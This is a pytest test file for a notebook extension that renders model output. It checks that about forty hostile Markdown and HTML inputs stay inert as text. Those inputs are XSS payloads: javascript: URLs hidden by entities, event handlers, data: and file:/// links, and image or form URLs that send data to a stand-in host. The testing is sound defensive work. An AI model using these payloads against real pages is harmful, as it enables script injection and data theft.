"""Hostile model output, end to end: the final HTML, the Markdown copy, the live view's front
end, and a real kernel. Payloads that reach for live markup through entities, autolinks, data:
URLs, link titles and destinations, containers, and pieces split at every position."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from markdown_it import MarkdownIt

from tests.kernels import Kernel
from xai_magics.render import render_bundle, render_markdown, safe_markdown, strip_controls

from .kernel_harness import assert_inert_html

if TYPE_CHECKING:
    from xai_magics.emulator import Emulator

EXFIL = "http://127.0.0.1:9/?d=secret"
HOSTILE = {
    "svg-onload": "<svg onload=alert(1)>",
    "svg-self-closing": "<svg/onload=alert(1)>",
    "a-hex-entity-href": '<a href="jav&#x61;script:alert(1)">x</a>',
    "md-hex-entity": "[x](jav&#x61;script:alert(1))",
    "md-decimal-entity-first": "[x](&#106;avascript:alert(1))",
    "md-named-colon": "[x](javascript&colon;alert(1))",
    "md-tab-entity": "[x](java&Tab;script:alert(1))",
    "md-newline-entity": "[x](java&NewLine;script:alert(1))",
    "md-escaped-colon": "[x](javascript\\:alert(1))",
    "md-pointy-destination": "[x](<javascript:alert(1)>)",
    "md-control-char": "[x](\x01javascript:alert(1))",
    "md-leading-space": "[x]( javascript:alert(1))",
    "md-percent-colon": "[x](javascript%3Aalert(1))",
    "md-link": "[x](javascript:alert(1))",
    "md-title-quote": '[x](http://a.example "t\\" onmouseover=alert(1)")',
    "md-destination-quote": '[x](http://a.example/"onmouseover="alert(1))',
    "md-nested-image-link": "[![i](javascript:x)](javascript:y)",
    "md-html-as-link-text": "[<img src=x onerror=alert(1)>](http://a.example)",
    "md-file": "[x](file:///etc/passwd)",
    "autolink-javascript": "<javascript:alert(1)>",
    "autolink-upper": "<JAVASCRIPT:alert(1)>",
    "autolink-data": "<data:text/html,<script>alert(1)</script>>",
    "autolink-vbscript": "<vbscript:msgbox(1)>",
    "img-data-png": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "img-data-svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "img-data-upper": "![x](DATA:image/png;base64,AAAA)",
    "img-reference-data": "![x][d]\n\n[d]: data:image/png;base64,AAAA",
    "img-exfil": f"![x]({EXFIL})",
    "img-reference-exfil": f"![x][e]\n\n[e]: {EXFIL}",
    "numeric-entities": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "hex-entities": "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "null-in-tag": "<scr\x00ipt>alert(1)</script>",
    "in-list-and-quote": "- <svg/onload=alert(1)>\n- > <img src=x onerror=alert(1)>",
    "in-heading": "# <img src=x onerror=alert(1)>",
    "in-table": "| <svg onload=alert(1)> | [l](javascript:x) |\n|---|---|\n| ![i](data:,x) | b |",
    "fenced-then-live": "```\n<script>alert(1)</script>\n```\n\n<img src=x onerror=alert(1)>",
    "unclosed-fence": "```\n<script>alert(1)</script>\n\n<iframe srcdoc=x>",
    "blank-line-in-tag": "<img src=x\n\nonerror=alert(1)>",
    "style-block": "<style>body{display:none}</style>\n\n<form action=http://evil><input></form>",
    "meta-base": '<meta http-equiv="refresh" content="0;url=http://evil">\n\n<base href="http://evil/">',
}


class Links(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.urls: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.urls += [v or "" for k, v in attrs if k in ("href", "src")]


def urls_in(html: str) -> list[str]:
    parser = Links()
    parser.feed(html)
    parser.close()
    return parser.urls


def browser_scheme(url: str) -> str:
    """The scheme a browser's URL parser would see (it drops tabs and newlines anywhere and
    C0 controls and spaces at the ends), "" for a relative URL."""
    cleaned = re.sub(r"[\t\n\r]", "", url).strip("".join(map(chr, range(33))))
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.\-]*):", cleaned)
    return match.group(1).lower() if match else ""


def assert_links_are_web_links(html: str) -> None:
    assert {browser_scheme(u) for u in urls_in(html)} <= {"", "http", "https", "mailto"}


@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE.keys())
def test_final_html_is_inert_and_never_points_at_a_script_or_data(payload: str) -> None:
    html = render_bundle(payload)["text/html"]
    assert_inert_html(html)
    assert_links_are_web_links(html)
    assert "<img" not in html  # an image would be fetched as soon as the output is shown


@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE.keys())
def test_markdown_copy_is_inert_even_where_raw_html_is_rendered(payload: str) -> None:
    permissive = MarkdownIt("commonmark", {"html": True}).enable("table")
    permissive.validateLink = lambda url: True  # type: ignore[method-assign]
    html = permissive.render(safe_markdown(payload))
    assert_inert_html(html)
    assert urls_in(html) == []


NODE = shutil.which("node")
HERE = Path(__file__).parent


@pytest.mark.skipif(NODE is None, reason="needs Node.js to run the widget's module")
def test_live_view_shows_every_payload_split_at_every_position_as_text() -> None:
    pieces = [
        {"msg": {channel: piece}}
        for payload in HOSTILE.values()
        for at in range(1, len(payload))
        for channel in ("text", "reasoning")
        for piece in (payload[:at], payload[at:])
    ]
    statuses = [{"msg": {"status": payload}} for payload in HOSTILE.values()]
    done = subprocess.run(
        [str(NODE), str(HERE / "stream_view_harness.mjs")],
        input=json.dumps(
            {
                "module": str(HERE.parents[1] / "xai_magics" / "widgets" / "stream_view.js"),
                "steps": [{"render": True}, *pieces, *statuses],
            }
        ),
        capture_output=True, text=True, timeout=60, check=True,
    )  # fmt: skip
    out = json.loads(done.stdout)
    (view,) = out["views"]
    expected = "".join(payload for payload in HOSTILE.values() for at in range(1, len(payload)))
    assert view["text"] == expected
    assert view["reasoning"] == "Reasoning" + expected
    assert view["status"] == list(HOSTILE.values())[-1]
    # the view's own skeleton, and text nodes: nothing the model wrote became an element
    assert set(view["tags"]) == {"div", "details", "summary", "pre", "#text"}
    # el, the view, its rendered page, the answer, its blocks and tail, the status line, and
    # the empty mark at the view's end (watched to tell whether the end is in view)
    assert view["tags"].count("div") == 8
    assert out["innerHTMLWrites"] == 0


@pytest.mark.parametrize("name", sorted(HOSTILE), ids=sorted(HOSTILE))
def test_hostile_answer_in_a_kernel_stays_text_live_and_saved(
    grok_kernel: Kernel, emu: Emulator, name: str
) -> None:
    payload = HOSTILE[name]
    emu.control.inject("answer", "/v1/responses", text=payload)
    run = grok_kernel.ok("%%grok\nbe evil")
    shown = strip_controls(payload)  # control characters never reach a front end
    assert run.streamed_text == shown  # sent as text, appended with text nodes
    live_html = "".join(c.get("html", "") for c in run.custom)  # its blocks, rendered live
    assert live_html == render_markdown(shown)
    assert_inert_html(live_html)
    assert_links_are_web_links(live_html)
    data = run.only_display()["data"]
    assert_inert_html(data["text/html"])
    assert_links_are_web_links(data["text/html"])
    assert data["text/plain"].startswith(shown + "\n\n[grok-4.3")  # the text, then the receipt
    assert data["text/markdown"].startswith(safe_markdown(payload) + "\n\n*grok")
